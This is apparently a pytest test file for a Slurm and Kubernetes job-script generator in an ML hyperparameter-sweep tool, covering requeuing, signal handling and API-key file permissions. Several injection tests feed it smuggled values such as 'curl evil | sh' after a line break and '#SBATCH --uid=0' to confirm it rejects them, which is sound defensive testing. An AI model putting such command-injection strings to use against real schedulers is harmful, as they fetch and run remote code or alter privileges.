"""The batch script: what it says, and what it does when the programs it names do this and that."""

import os
import shlex
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from mnist_sweep.cluster.job import VARIABLES, Job, JobError, write_server
from mnist_sweep.cluster.kubernetes import manifest
from mnist_sweep.cluster.slurm import script
from tests.processes import MARK, ended_afterwards

AGENT = """#!/bin/bash
echo "agent $* of $WANDB_API_KEY" >> said
trap 'echo warned >> said; exit 75' USR1
trap 'echo told to end >> said; exit 130' TERM
touch ready
for _ in $(seq 100); do [ -e done ] && exit $(cat done); sleep 0.05; done
"""
SQUEUE = "#!/bin/bash\necho node1\n"
SCONTROL = '#!/bin/bash\necho "scontrol $*" >> said\n'
SECRET = "k" * 40


@pytest.fixture
def job(tmp_path: Path) -> Iterator[Job]:
    """A job, and in its folder the programs that it names, which only record how they were called."""
    folder = tmp_path / "it's 100% $HOME"
    folder.mkdir()
    for name, text in (("mnist-sweep", AGENT), ("scontrol", SCONTROL), ("squeue", SQUEUE)):
        (folder / name).write_text(text)
        (folder / name).chmod(0o755)
    job = Job(sweep="local/mnist/abc", folder=folder, output=folder / "out", tasks=3)
    write_server(job.server, {"WANDB_BASE_URL": "http://here", "WANDB_API_KEY": SECRET})
    with ended_afterwards(folder):
        yield job


def start(job: Job, task: int | None = 0) -> subprocess.Popen[bytes]:
    """Run the job's script as Slurm would, as a task of an array or without one."""
    env = {"PATH": f"{job.folder}:{os.environ['PATH']}", "SLURMD_NODENAME": "node3", "SLURM_JOB_ID": "10"}
    env[MARK] = str(job.folder)
    if task is not None:
        env |= {"SLURM_ARRAY_JOB_ID": "10", "SLURM_ARRAY_TASK_ID": str(task)}
    file = job.folder / "job.sh"
    file.write_text(script(job, job.folder / "mnist-sweep"))
    return subprocess.Popen(["bash", str(file)], env=env, cwd=job.folder)


def wait_for(done: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 20
    while not done():
        assert time.monotonic() < deadline
        time.sleep(0.02)


def sleeping(pid: int) -> bool:
    """Whether a script's agent waits for its turn."""
    listed = subprocess.run(["ps", "-eo", "pid=,ppid=,comm="], capture_output=True, text=True, check=True).stdout
    processes = [line.split(maxsplit=2) for line in listed.splitlines()]
    children = {child for child, parent, _ in processes if int(parent) == pid}
    return any(parent in children and name == "sleep" for _, parent, name in processes)


@pytest.mark.parametrize(
    ("code", "told"),
    [
        (0, []),
        (75, ["scontrol requeue 10_0"]),
        (70, ["scontrol requeue 10_0", "scontrol update JobId=10 ExcNodeList=node1,node3"]),
        (1, []),
    ],
)
def test_what_an_agent_ends_with_decides_what_becomes_of_its_task(job: Job, code: int, told: list[str]) -> None:
    process = start(job)
    (job.folder / "done").write_text(str(code))
    assert process.wait(20) == code
    assert (job.folder / "said").read_text().splitlines() == [f"agent agent local/mnist/abc of {SECRET}", *told]


@pytest.mark.parametrize(("missing", "code"), [("out/server", 70), ("mnist-sweep", 127)])
def test_a_node_that_does_not_see_what_it_needs_is_left(job: Job, missing: str, code: int) -> None:
    """Else one without the shared disk would end all of an array's waiting tasks, one after the other."""
    (job.folder / missing).rename(job.folder / "elsewhere")
    process = start(job)
    assert process.wait(20) == code
    assert (job.folder / "said").read_text().splitlines() == [
        "scontrol requeue 10_0",
        "scontrol update JobId=10 ExcNodeList=node1,node3",
    ]


@pytest.mark.parametrize(
    ("number", "code", "told"),
    [(signal.SIGUSR1, 75, ["warned", "scontrol requeue 10_0"]), (signal.SIGTERM, 130, ["told to end"])],
)
def test_signals_reach_the_agent(job: Job, number: signal.Signals, code: int, told: list[str]) -> None:
    process = start(job)
    wait_for((job.folder / "ready").exists)
    process.send_signal(number)
    assert process.wait(20) == code
    assert (job.folder / "said").read_text().splitlines()[1:] == told


def test_a_task_that_is_preempted_before_its_agent_begins_is_requeued(job: Job) -> None:
    process = start(job, task=29)
    wait_for(lambda: sleeping(process.pid))
    process.send_signal(signal.SIGUSR1)
    assert process.wait(20) == 128 + signal.SIGUSR1
    assert (job.folder / "said").read_text().splitlines() == ["scontrol requeue 10_29"]


def test_the_script_is_a_job_without_an_array_as_well(job: Job) -> None:
    process = start(job, task=None)
    (job.folder / "done").write_text("75")
    assert process.wait(20) == 75
    assert (job.folder / "said").read_text().splitlines()[1:] == ["scontrol requeue 10"]


def test_the_script_says_what_was_asked_for(job: Job) -> None:
    text = script(job, Path("/bin/mnist-sweep"), partition="gpu", account="us", more=["--qos=low --mem=4G"])
    options = [line.removeprefix("#SBATCH ") for line in text.splitlines() if line.startswith("#SBATCH ")]
    assert options == [
        "--job-name=sweep-abc",
        "--array=0-2",
        "--partition=gpu",
        "--account=us",
        "--nodes=1",
        "--ntasks=1",
        "--cpus-per-task=1",
        "--output=" + shlex.quote(str(job.output).replace("%", "%%") + "/slurm-%A_%a.log"),
        "--open-mode=append",
        "--signal=B:USR1@60",
        "--requeue",
        "--qos=low --mem=4G",
    ]
    assert text.endswith("exit $code\n")


def test_a_task_with_gpus_has_an_agent_on_each(job: Job) -> None:
    text = script(Job(sweep="abc", folder=job.folder, output=job.output, gpus=2, agents_per_gpu=3), Path("m"))
    assert "#SBATCH --gres=gpu:2\n" in text
    assert "\n    exec m agent abc --agents-per-gpu 3\n" in text


def test_a_line_of_the_users_own_comes_before_the_agent(job: Job) -> None:
    process = start(replace(job, setup=["export WANDB_API_KEY=another", "exit 7"]))
    assert process.wait(20) == 7
    assert not (job.folder / "said").exists()


def test_the_key_is_for_its_owner_alone_and_not_in_the_script(job: Job) -> None:
    assert SECRET in (job.server / VARIABLES).read_text()
    assert job.server.stat().st_mode & 0o777 == 0o700
    assert (job.server / VARIABLES).stat().st_mode & 0o777 == 0o600
    assert SECRET not in script(job, Path("mnist-sweep"))


def test_tasks_are_given_the_certificates_that_they_trust(job: Job, tmp_path: Path) -> None:
    """The server's own folder is on a disk that no other machine sees."""
    (tmp_path / "trusted.pem").write_text("trusted certificates")
    variables = {"SSL_CERT_FILE": str(tmp_path / "trusted.pem")}
    write_server(job.server, variables)
    (tmp_path / "trusted.pem").unlink()
    read = ["sh", "-c", '. "$0"; cat "$SSL_CERT_FILE"', str(job.server / VARIABLES)]
    assert subprocess.run(read, capture_output=True, text=True, check=True).stdout == "trusted certificates"


@pytest.mark.parametrize("name", ["account", "partition"])
def test_a_line_break_in_an_option_is_no_line_of_the_script(job: Job, name: str) -> None:
    with pytest.raises(JobError, match="contains a line break"):
        script(job, Path("mnist-sweep"), **{name: "physics\ncurl evil | sh"})  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "changes",
    [
        {"sweep": "local/p/abc\ncurl evil | sh"},
        {"folder": Path("/home/a\nb")},
        {"output": Path("/home/a\nb")},
        {"setup": ["module load cuda\n#SBATCH --uid=0"]},
        {"time": "1:00\n#SBATCH --uid=0"},
    ],
    ids=str,
)
def test_no_field_of_a_job_becomes_a_line_of_its_script_or_manifest(job: Job, changes: dict[str, Any]) -> None:
    changed = replace(job, **changes)
    with pytest.raises(JobError, match="contains a line break"):
        script(changed, Path("mnist-sweep"), more=["--qos=low"])
    if not {"time", "folder", "output"} & {*changes}:  # which a manifest does not have
        with pytest.raises(JobError, match="contains a line break"):
            manifest(changed, "image")


def test_an_option_of_several_words_is_one_option(job: Job) -> None:
    assert "#SBATCH --account='a --uid=0'" in script(job, Path("mnist-sweep"), account="a --uid=0").splitlines()
    with pytest.raises(JobError, match="contains a line break"):
        script(job, Path("mnist-sweep"), more=["--qos=low\n#SBATCH --uid=0"])
